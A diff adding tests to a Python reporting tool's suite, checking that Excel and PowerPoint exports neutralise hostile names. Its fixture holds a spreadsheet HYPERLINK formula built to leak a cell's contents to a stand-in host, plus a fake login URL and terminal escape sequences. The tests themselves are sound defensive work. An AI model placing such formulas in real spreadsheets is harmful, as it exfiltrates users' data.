@@ -3,16 +3,19 @@ line. The deck's images are drawn by kaleido in Debian's Chromium, which `make t
 
 import datetime as dt
 import io
+import re
 import zipfile
 
 import openpyxl
 import pytest
-from conftest import DEMO_TODAY, activity_log
+from conftest import DEMO_TODAY, activity_log, workbook_bytes
+from kaleido.errors import KaleidoError
 from pptx import Presentation
 from pptx.enum.shapes import MSO_SHAPE_TYPE
 
 from civsam import images
 from civsam.audit import entries
+from civsam.charts.base import with_title
 from civsam.cli import main
 from civsam.deck import deck_bytes
 from civsam.demo import PEOPLE
@@ -250,3 +253,73 @@ def test_export_takes_a_preset_or_dates_not_both(demo_engine, tmp_path, monkeypa
     monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
     assert main(["export", "xlsx", str(tmp_path / "ut.xlsx"), "--period", "2025", "--from", "2025-02-01"]) == 2
     assert "antingen --period eller --from" in capsys.readouterr().err
+
+
+URL_NAMED = "https://evil.example/login"
+LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Klicka")'
+CONTROL_CHARACTER = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+
+
+@pytest.fixture
+def hostile_store(tmp_path, monkeypatch):
+    """A store whose names a hostile user chose: an organisation named as a web address, an agreement named as a
+    formula (as a text cell; openpyxl here would write a formula), and control characters that a store written
+    before migration 0007, or by hand, may still hold."""
+    from civsam.db import open_store, write_transaction
+    url = f"sqlite:///{tmp_path / 'civsam.db'}"
+    monkeypatch.setenv("CIVSAM_DATABASE_URL", url)
+    engine = open_store(url)
+    content = workbook_bytes({
+        "Organisationer": [["Organisation", "Sektor"], [URL_NAMED, "Civilsamhälle"], ["Förening", "Civilsamhälle"]],
+        "Avtal": [["Namn", "Typ", "Part", "Undertecknat"], ["IOP", "IOP", URL_NAMED, dt.date(2025, 1, 10)]],
+        "Aktiviteter": [["Datum", "Organisation", "Kommun", "Avtal", "Typ"],
+                        *[[dt.date(2025, 3, day), URL_NAMED, "Umeå", "IOP", "Möte"] for day in range(1, 4)],
+                        [dt.date(2025, 3, 9), "Förening", "Luleå", "", "Besök"]]})
+    assert import_file(engine, content, "logg.xlsx").rejected == []
+    with write_transaction(engine) as connection:
+        connection.exec_driver_sql("UPDATE organisations SET name = ? WHERE name = 'Förening'",
+                                   ("Förening\x1b[31m\x00",))
+        connection.exec_driver_sql("UPDATE agreements SET name = ?", (LEAK + "\x07",))  # a text cell in Excel
+        connection.exec_driver_sql("UPDATE activities SET type = 'Besök\x1b' WHERE type = 'Besök'")
+    engine.dispose()
+    return tmp_path
+
+
+def test_a_report_of_hostile_names_holds_no_formula_and_no_control_character(hostile_store, capsys):
+    out = hostile_store / "rapport.xlsx"
+    assert main(["export", "xlsx", str(out), "--from", "2025-01-01", "--to", "2025-12-31"]) == 0, capsys.readouterr()
+    workbook = openpyxl.load_workbook(out)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert not [cell.value for cell in cells if isinstance(cell.value, str) and CONTROL_CHARACTER.search(cell.value)]
+    assert LEAK in [cell.value for cell in workbook["Avtal"][1]]  # the agreement's column, as text
+    assert "Förening[31m" in [row[0] for row in workbook["Partner"].iter_rows(min_row=2, values_only=True)]
+
+
+def test_a_deck_of_hostile_names_holds_no_link_and_no_control_character(hostile_store, capsys):
+    """python-pptx writes a title as a plain run: a web address stays text (PowerPoint and LibreOffice do not
+    autocorrect a file they open), and a control character, which the slide's XML cannot hold, is left out."""
+    out = hostile_store / "deck.pptx"
+    assert main(["export", "pptx", str(out), "--from", "2025-01-01", "--to", "2025-12-31"]) == 0, capsys.readouterr()
+    with zipfile.ZipFile(out) as package:
+        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith(".xml")}
+    assert not [name for name, xml in parts.items() if "hlinkClick" in xml or "hlinkHover" in xml]
+    assert not [name for name, xml in parts.items() if CONTROL_CHARACTER.search(xml) or "_x00" in xml]
+    titles = [slide.shapes[0].text_frame.text for slide in Presentation(out).slides]
+    assert any(URL_NAMED in title for title in titles)
+    assert not [rels for name, rels in parts.items() if name.endswith(".rels") and "evil.example" in rels]
+
+
+def test_an_image_of_a_chart_titled_with_control_characters_is_drawn(demo_deck):
+    """plotly.js stops drawing at a control character in a title, which was reported as a missing browser."""
+    figure = with_title(demo_deck[0].charts[0].figure, "Förening\x1b[31m\x00 träffas oftast")
+    assert images.image(figure).startswith(b"\x89PNG")
+
+
+def test_a_figure_the_browser_cannot_draw_is_not_blamed_on_a_missing_browser(monkeypatch, demo_deck):
+    def refused(*args, **kwargs):
+        raise KaleidoError(525, "plotly.js error")
+    monkeypatch.setattr(images.pio, "to_image", refused)
+    with pytest.raises(images.ImagesUnavailable) as refusal:
+        images.image(demo_deck[0].charts[0].figure)
+    assert "Chromium" not in str(refusal.value) and "kunde inte ritas" in str(refusal.value)
